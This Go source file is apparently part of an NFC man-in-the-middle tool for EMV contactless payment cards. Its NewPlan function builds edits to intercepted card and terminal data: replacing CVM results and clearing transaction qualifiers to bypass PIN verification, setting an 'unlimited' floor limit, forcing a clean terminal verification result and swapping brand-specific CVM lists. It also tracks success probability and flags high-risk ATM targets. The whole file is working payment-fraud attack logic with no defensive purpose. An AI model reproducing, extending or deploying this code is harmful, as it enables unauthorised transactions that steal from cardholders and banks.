package bypass

import (
	"errors"
	"fmt"

	"github.com/ghostfacexx/nfcmitm/pkg/emv"
	"github.com/ghostfacexx/nfcmitm/pkg/policy"
	"github.com/ghostfacexx/nfcmitm/pkg/tlv"
)

// ErrProtectedTagEdit marks a plan that targets a protected tag. This is an
// internal invariant violation, not a client error: plans are built here and
// must never reach PAN, expiry, cryptogram or issuer key material.
var ErrProtectedTagEdit = errors.New("bypass: plan edits protected tag")

// protectedTags is keyed by the raw tag bytes.
var protectedTags = map[string]bool{
	string(tlv.TagPAN):                 true,
	string(tlv.TagExpiryDate):          true,
	string(tlv.TagCryptogram):          true,
	string(tlv.TagCryptogramInfo):      true,
	string(tlv.TagATC):                 true,
	string(tlv.TagIssuerPublicKeyCert): true,
	string(tlv.TagIssuerPublicKeyRem):  true,
	string(tlv.TagIssuerPublicKeyExp):  true,
}

// Protected reports whether a tag is on the protected set.
func Protected(tag []byte) bool {
	return protectedTags[string(tag)]
}

// Plan is the ordered edit list for one request plus the metadata the
// response summary and logging consume.
type Plan struct {
	// Blocked is set when policy demands rejection instead of
	// modification; no edits are carried.
	Blocked bool

	Edits    []tlv.Edit
	Strategy Strategy

	// HighRisk flags combinations consumed by logging only.
	HighRisk bool

	// SuccessProbability is an opaque observability scalar in [0,1].
	SuccessProbability float64
}

// cdcvmBrands are the schemes with consumer-device CVM support.
var cdcvmBrands = map[emv.Brand]bool{
	emv.BrandVisa:       true,
	emv.BrandMastercard: true,
}

// zero-filled terminal floor limit applied for business cards under
// enhanced limits.
var floorLimitUnlimited = []byte{0x00, 0x00, 0x00, 0x00}

// ctqClear zeroes the Card Transaction Qualifiers alongside a CVM result
// replacement.
var ctqClear = []byte{0x00, 0x00}

// tvrClear reports a clean terminal verification result.
var tvrClear = []byte{0x80, 0x00, 0x00, 0x00, 0x00}

// NewPlan materializes the edit plan for one request from the card facts,
// the terminal kind and a policy snapshot.
func NewPlan(info emv.CardInfo, terminal TerminalKind, pol policy.State) Plan {
	if pol.BlockAll {
		return Plan{Blocked: true}
	}

	strategy := selectStrategy(info.Brand, info.Type, terminal)

	plan := Plan{
		Strategy:           strategy,
		HighRisk:           info.Brand == emv.BrandUnionPay && terminal == TerminalATM,
		SuccessProbability: successProbability(strategy.Primary),
	}

	if pol.BypassPIN {
		plan.Edits = append(plan.Edits,
			tlv.Replace(tlv.TagCVMResults, strategy.CVMResults),
			tlv.Replace(tlv.TagCTQ, ctqClear),
		)
	}
	if pol.CDCVMEnabled && cdcvmBrands[info.Brand] {
		plan.Edits = append(plan.Edits, tlv.Replace(tlv.TagIAD, strategy.CVR))
	}
	if pol.EnhancedLimits && info.Type == emv.TypeBusiness {
		plan.Edits = append(plan.Edits, tlv.Replace(tlv.TagTerminalFloorLimit, floorLimitUnlimited))
	}

	plan.Edits = append(plan.Edits,
		tlv.Replace(tlv.TagTerminalCaps, strategy.TerminalCaps),
		tlv.Replace(tlv.TagTVR, tvrClear),
	)

	switch info.Brand {
	case emv.BrandMastercard:
		plan.Edits = append(plan.Edits, tlv.Replace(tlv.TagCVMList, mastercardCVMList))
	case emv.BrandAmex:
		plan.Edits = append(plan.Edits, tlv.Replace(tlv.TagCVMList, amexCVMList))
	}

	return plan
}

// Validate rejects any plan whose edits reach a protected tag. Callers run
// this before applying edits; a failure is reported as an internal error and
// the frame is never modified.
func Validate(p Plan) error {
	for _, e := range p.Edits {
		if Protected(e.Tag) {
			return fmt.Errorf("%w: %s", ErrProtectedTagEdit, tlv.Name(e.Tag))
		}
	}
	return nil
}
